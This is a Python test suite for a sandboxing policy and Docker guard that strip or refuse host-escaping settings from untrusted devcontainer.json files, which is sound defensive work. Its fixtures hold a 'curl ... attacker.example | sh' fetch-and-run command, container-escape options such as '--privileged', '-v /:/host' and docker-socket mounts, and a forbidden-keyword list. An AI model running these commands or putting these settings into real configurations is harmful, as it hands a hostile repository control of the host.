"""A repository's devcontainer.json cannot reach outside its container unless the class
trusts the repository.

The sequence tests run the real start sequence with a stand-in `devcontainer` on PATH
that records the argv and the override config it was given, as the CLI would read it.
"""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path
from typing import Any

import pytest

from agentspaces.vmconfig.agent_config import render_agent_config
from agentspaces_vm import devcontainer as dc
from agentspaces_vm import docker_guard
from agentspaces_vm.bootstrap import FAILED, READY, Bootstrap
from agentspaces_vm.caddy import BasicAuth
from agentspaces_vm.config import AgentConfig, parse_config
from agentspaces_vm.contracts import BackupJob
from agentspaces_vm.devcontainer_policy import DevcontainerRefused, vet
from agentspaces_vm.secrets import Delivery, SecretStore
from agentspaces_vm.status import build_status
from tests.unit.vmconfig_inputs import TOKEN_SHA256, WS, make_klass, make_spec

# What a hostile repository asks for: a root shell on the host at `up`, and a
# container that is the host.
ATTACK: dict[str, Any] = {
    "image": "mcr.microsoft.com/devcontainers/base:ubuntu-24.04",
    "initializeCommand": "curl -s https://attacker.example/x | sh",
    "runArgs": ["--privileged", "-v", "/:/host", "--pid=host", "--cgroup-parent", "evil.slice",
                "--shm-size=1g", "-e", "KEEP=1"],
    "privileged": True,
    "capAdd": ["SYS_ADMIN"],
    "securityOpt": ["apparmor=unconfined"],
    "mounts": ["source=/,target=/host,type=bind",
               {"source": "/var/lib/agentspaces", "target": "/s", "type": "bind"},
               "type=volume,source=x,target=/y,volume-opt=type=none,volume-opt=device=/",
               "source=cache,target=/cache,type=volume"],
    "workspaceMount": "source=/etc,target=/workspace,type=bind",
    "postCreateCommand": "npm ci",
    "remoteUser": "node",
}
FORBIDDEN = ("--privileged", "/:/host", "--pid=host", "--cgroup-parent", "evil.slice",
             "SYS_ADMIN", "apparmor=unconfined", "attacker.example", "source=/,",
             "/var/lib/agentspaces", "volume-opt", "source=/etc")

# -- the policy --------------------------------------------------------------------------


def test_vet_keeps_what_acts_inside_the_container_and_names_what_it_removed(
        tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".devcontainer").mkdir(parents=True)
    vetted = vet(ATTACK, repo=repo, config_dir=repo / ".devcontainer")
    text = json.dumps(vetted.config)
    assert not [bad for bad in FORBIDDEN if bad in text]
    assert vetted.config["runArgs"] == ["--shm-size=1g", "-e", "KEEP=1"]
    assert vetted.config["mounts"] == ["source=cache,target=/cache,type=volume"]
    assert {k: vetted.config[k] for k in ("image", "postCreateCommand", "remoteUser")} == \
        {k: ATTACK[k] for k in ("image", "postCreateCommand", "remoteUser")}
    assert vetted.removed == (
        "initializeCommand", "runArgs[--privileged]", "runArgs[-v]", "runArgs[--pid]",
        "runArgs[--cgroup-parent]", "privileged", "capAdd", "securityOpt", "mounts[0]",
        "mounts[1]", "mounts[2]", "workspaceMount")


def test_vet_keeps_build_paths_inside_the_repository(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".devcontainer").mkdir(parents=True)
    (repo / "root-link").symlink_to("/")
    conf = repo / ".devcontainer"
    inside = vet({"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"A": "1"}}},
                 repo=repo, config_dir=conf)
    assert inside.removed == () and inside.config["build"]["context"] == ".."
    # A context outside the checkout would send host files (the agent's key) into the image.
    for context in ("../..", "/", "../root-link", "${localEnv:HOME}"):
        out = vet({"build": {"context": context, "options": ["--network=host"]}},
                  repo=repo, config_dir=conf)
        assert out.config["build"] == {} and out.removed == ("build.context", "build.options")
    ok = vet({"workspaceMount": "source=${localWorkspaceFolder}/src,target=/w,type=bind"},
             repo=repo, config_dir=conf)
    assert ok.removed == ()
    for mount in ("source=${localWorkspaceFolder}/../..,target=/w,type=bind",
                  "source=${localWorkspaceFolder}/root-link,target=/w,type=bind",
                  "source=${localWorkspaceFolder},target=/w,type=bind,bind-propagation=shared"):
        assert vet({"workspaceMount": mount}, repo=repo, config_dir=conf).removed == \
            ("workspaceMount",)


def test_vet_refuses_docker_compose(tmp_path: Path) -> None:
    with pytest.raises(DevcontainerRefused, match="trustRepository"):
        vet({"dockerComposeFile": "compose.yml", "service": "app"}, repo=tmp_path,
            config_dir=tmp_path)


def test_trust_setting_travels_from_the_class_to_the_agent() -> None:
    for trusted in (False, True):
        klass = make_klass(devcontainer={"trustRepository": True} if trusted else {})
        doc = render_agent_config(WS, make_spec(klass), klass, host="demo.example.com",
                                  token_sha256=TOKEN_SHA256)
        config = parse_config(doc)
        assert config.repository is not None
        assert config.repository.trust_devcontainer is trusted


# -- the real start sequence with a recording `devcontainer` -----------------------------

# Like the real CLI: the container is created with one `docker run` (through
# --docker-path when given) carrying the config's mounts and runArgs plus whatever the
# image's and the features' metadata add (`<cli>.metadata-args`, a JSON list).
FAKE_CLI = """\
import json, os, subprocess, sys
argv = sys.argv[1:]
record = {"argv": argv}
config = {}
if "--override-config" in argv:
    with open(argv[argv.index("--override-config") + 1], encoding="utf-8") as f:
        config = record["override"] = json.load(f)
elif "--config" in argv:
    with open(argv[argv.index("--config") + 1], encoding="utf-8") as f:
        config = json.load(f)
docker = argv[argv.index("--docker-path") + 1] if "--docker-path" in argv else "docker"
folder = argv[argv.index("--workspace-folder") + 1]
extra = []
if os.path.exists(sys.argv[0] + ".metadata-args"):
    with open(sys.argv[0] + ".metadata-args", encoding="utf-8") as f:
        extra = json.load(f)
mounts = [a for m in config.get("mounts", []) for a in ("--mount", m if isinstance(m, str)
          else f"type={m['type']},src={m['source']},dst={m['target']}")]
run = ["run", "--sig-proxy=false", "-a", "STDOUT", "-a", "STDERR", "--mount",
       f"type=bind,source={folder},target=/workspaces/app", *mounts,
       "-l", f"devcontainer.local_folder={folder}", *config.get("runArgs", []), *extra,
       "--entrypoint", "/bin/sh", config.get("image", "img"), "-c", "echo started", "-"]
started = subprocess.run([docker, *run]).returncode == 0
with open(sys.argv[0] + ".calls", "a", encoding="utf-8") as f:
    f.write(json.dumps(record) + "\\n")
print(json.dumps({"outcome": "success", "containerId": "c1"} if started else
                 {"outcome": "error", "message": "docker run failed"}))
"""
FAKE_DOCKER = """\
import json, sys
with open(sys.argv[0] + ".calls", "a", encoding="utf-8") as f:
    f.write(json.dumps(sys.argv[1:]) + "\\n")
"""


def _fake_cli(bin_dir: Path) -> Path:
    bin_dir.mkdir()
    for name, body in (("docker", FAKE_DOCKER), ("devcontainer", FAKE_CLI)):
        exe = bin_dir / name
        exe.write_text(f"#!{sys.executable}\n{body}", encoding="utf-8")
        exe.chmod(exe.stat().st_mode | stat.S_IXUSR)
    return bin_dir / "devcontainer"


def _docker_calls(tmp_path: Path) -> list[list[str]]:
    calls = tmp_path / "bin" / "docker.calls"
    return [json.loads(line) for line in calls.read_text().splitlines()] \
        if calls.exists() else []


def _config(tmp_path: Path, trust: bool) -> AgentConfig:
    return parse_config({
        "version": 1, "workspace": {"name": "demo", "namespace": "default"},
        "host": "demo.example.com",
        "listen": {"api": "127.0.0.1:9443", "local": "127.0.0.1:9180"},
        "tls": {"cert": "/c", "key": "/k"}, "tokenSha256": "0" * 64,
        "caddy": {"admin": "127.0.0.1:2019", "tlsMode": "acme"},
        "paths": {"workspaces": str(tmp_path / "ws"), "state": str(tmp_path / "state")},
        "repository": {"url": "https://git.example.com/org/app.git",
                       "trustDevcontainer": trust},
    })


def _run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, config: dict[str, Any],
         trust: bool, metadata_args: list[str] | None = None
         ) -> tuple[Bootstrap, list[dict[str, Any]]]:
    cli = _fake_cli(tmp_path / "bin")
    if metadata_args is not None:
        Path(f"{cli}.metadata-args").write_text(json.dumps(metadata_args))
    monkeypatch.setenv("PATH", f"{cli.parent}{os.pathsep}{os.environ['PATH']}")
    cfg = _config(tmp_path, trust)
    # The repository is already there (restored), holding the hostile config.
    repo = cfg.paths.workspaces / "app"
    (repo / ".git").mkdir(parents=True)
    (repo / ".devcontainer").mkdir()
    (repo / ".devcontainer" / "devcontainer.json").write_text(
        "// hostile\n" + json.dumps(config), encoding="utf-8")
    cfg.paths.state.mkdir(parents=True)
    (cfg.paths.state / "bootstrap").write_text("done\n")
    store = SecretStore(cfg.paths.secrets)
    store.apply(Delivery(version="1", basic_auth=BasicAuth("dev", "$2b$04$" + "a" * 53),
                         anthropic_api_key=None, repository_token=None))
    boot = Bootstrap(cfg, store, configure_claude=lambda repo: None, poll_interval=0.01)
    assert boot.request_start(None)[0] == 202
    assert boot.wait(30)
    calls_file = Path(f"{cli}.calls")
    calls = [json.loads(line) for line in calls_file.read_text().splitlines()] \
        if calls_file.exists() else []
    return boot, calls


def _status(boot: Bootstrap) -> dict[str, Any]:
    return build_status(version="t", simulated=False, boot=boot.snapshot(), ports=(),
                        activity=None, secrets_version=None, backup=BackupJob()).to_json()


def test_untrusted_repository_config_reaches_devcontainer_up_without_host_powers(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    boot, calls = _run(tmp_path, monkeypatch, ATTACK, trust=False)
    assert boot.snapshot().stage == READY
    [call] = calls
    given = json.dumps(call["argv"]) + json.dumps(call["override"])
    assert not [bad for bad in FORBIDDEN if bad in given]
    override = call["override"]
    assert "initializeCommand" not in override and "privileged" not in override
    # What the agent adds stays: host networking and its two mounts.
    assert override["runArgs"] == ["--shm-size=1g", "-e", "KEEP=1", "--network=host"]
    assert override["mounts"][0] == "source=cache,target=/cache,type=volume"
    assert [m.split(",")[1] for m in override["mounts"][1:]] == [
        "target=/run/agentspaces", "target=/workspaces/.claude"]
    assert override["postCreateCommand"] == "npm ci"
    devcontainer = _status(boot)["devcontainer"]
    assert devcontainer["state"] == "running" and devcontainer["policy"] == dc.RESTRICTED
    assert "initializeCommand" in devcontainer["removed"]
    assert "runArgs[--privileged]" in devcontainer["removed"]
    assert "mounts[0]" in devcontainer["removed"]


def test_a_trusting_class_passes_the_repository_config_through(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    boot, calls = _run(tmp_path, monkeypatch, ATTACK, trust=True)
    assert boot.snapshot().stage == READY
    [call] = calls
    override = call["override"]
    for key in ("initializeCommand", "privileged", "capAdd", "securityOpt", "workspaceMount"):
        assert override[key] == ATTACK[key]
    assert override["runArgs"][:3] == ["--privileged", "-v", "/:/host"]
    assert _status(boot)["devcontainer"] | {"message": ""} == {
        "state": "running", "message": "", "policy": dc.TRUSTED, "removed": []}


def test_an_untrusted_compose_config_is_refused_before_devcontainer_up(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    boot, calls = _run(tmp_path, monkeypatch,
                       {"dockerComposeFile": "compose.yml", "service": "app"}, trust=False)
    assert calls == []
    state = boot.snapshot()
    assert state.stage == FAILED and state.devcontainer_state == "refused"
    assert "trustRepository" in _status(boot)["devcontainer"]["message"]


# -- what the image and the features add: the Docker guard -------------------------------


def test_untrusted_up_goes_through_the_guard_which_passes_a_plain_container(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    boot, calls = _run(tmp_path, monkeypatch, {"image": "node:22"}, trust=False)
    assert boot.snapshot().stage == READY
    argv = calls[0]["argv"]
    guard = argv[argv.index("--docker-path") + 1]
    assert Path(guard).is_file() and os.access(guard, os.X_OK)
    [run] = _docker_calls(tmp_path)  # reached the real docker, unchanged
    assert run[0] == "run" and "node:22" in run


@pytest.mark.parametrize("metadata_args", [
    ["--privileged"],
    ["--cap-add", "SYS_ADMIN"],
    ["--security-opt", "apparmor=unconfined"],
    ["--mount", "type=bind,src=/var/run/docker.sock,dst=/var/run/docker-host.sock"],
    ["--mount", "type=volume,src=v,dst=/v,volume-opt=type=none,volume-opt=device=/"],
], ids=["privileged", "capAdd", "securityOpt", "docker-socket", "volume-over-host-path"])
def test_privileges_from_image_or_feature_metadata_are_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, metadata_args: list[str]) -> None:
    """The config asks for nothing, but its image's devcontainer.metadata label (or a
    feature) does: the container is never created."""
    boot, _ = _run(tmp_path, monkeypatch, {"image": "attacker/privileged"}, trust=False,
                   metadata_args=metadata_args)
    assert _docker_calls(tmp_path) == []
    state = boot.snapshot()
    assert state.stage == FAILED and state.devcontainer_state == "refused"
    assert "trustRepository" in state.devcontainer_message


def test_a_trusting_class_uses_docker_itself(tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    boot, calls = _run(tmp_path, monkeypatch, {"image": "attacker/privileged"}, trust=True,
                       metadata_args=["--privileged"])
    assert boot.snapshot().stage == READY
    assert "--docker-path" not in calls[0]["argv"]
    assert "--privileged" in _docker_calls(tmp_path)[0]


GUARD = docker_guard.Policy(docker="/usr/bin/docker",
                            bind_sources=("/workspaces/app", "/var/lib/agentspaces/secrets/claude",
                                          "/workspaces/.claude"),
                            refusal_file="/dev/null")
PLAIN_RUN = ["run", "--sig-proxy=false", "-a", "STDOUT", "-a", "STDERR",
             "--mount", "type=bind,source=/workspaces/app,target=/workspaces/app",
             "--mount", "type=volume,src=node_modules,dst=/workspaces/app/node_modules",
             "--mount", "type=tmpfs,dst=/scratch", "-l", "devcontainer.local_folder=/x",
             "-e", "A=--privileged", "-u", "node", "--network=host", "--init",
             "--entrypoint", "/bin/sh", "img", "-c", "echo started", "-"]


@pytest.mark.parametrize(("extra", "why"), [
    (["-v", "/:/host"], "-v"),
    (["-itv/:/host"], "-itv/:/host"),
    (["--volume=/:/host"], "--volume"),
    (["--pid=host"], "--pid"),
    (["--network", "container:other"], "--network=container:other"),
    (["--env-file", "/etc/agentspaces/agent.json"], "--env-file"),
    (["--device", "/dev/sda"], "--device"),
    (["--mount", "type=bind,source=/workspaces/app/../../etc,target=/e"],
     "a bind mount of /workspaces/app/../../etc"),
])
def test_the_guard_reads_the_whole_run_command(extra: list[str], why: str) -> None:
    assert docker_guard.problem(PLAIN_RUN, GUARD) is None
    assert docker_guard.problem(["container", "create", *extra, *PLAIN_RUN[1:]], GUARD) == why
    assert docker_guard.problem(["run", *extra, *PLAIN_RUN[1:]], GUARD) == why


def test_the_guard_follows_links_out_of_the_checkout(tmp_path: Path) -> None:
    repo = tmp_path / "app"
    repo.mkdir()
    (repo / "root").symlink_to("/")
    policy = docker_guard.Policy("/usr/bin/docker", (str(repo),), "/dev/null")
    assert docker_guard.problem(["run", "--mount", f"type=bind,src={repo}/sub,dst=/s", "i"],
                                policy) is None
    assert docker_guard.problem(["run", "--mount", f"type=bind,src={repo}/root,dst=/s", "i"],
                                policy) == f"a bind mount of {repo}/root"


def test_the_guard_leaves_other_commands_alone_but_compose_and_privileged_exec() -> None:
    for argv in (["inspect", "--privileged"], ["ps", "-q"], ["buildx", "build", "."],
                 ["exec", "-u", "node", "c1", "sh"]):
        assert docker_guard.problem(argv, GUARD) is None
    assert docker_guard.problem(["exec", "--privileged", "c1", "sh"], GUARD)
    assert docker_guard.problem(["compose", "-f", "x.yml", "up"], GUARD) == "docker compose"
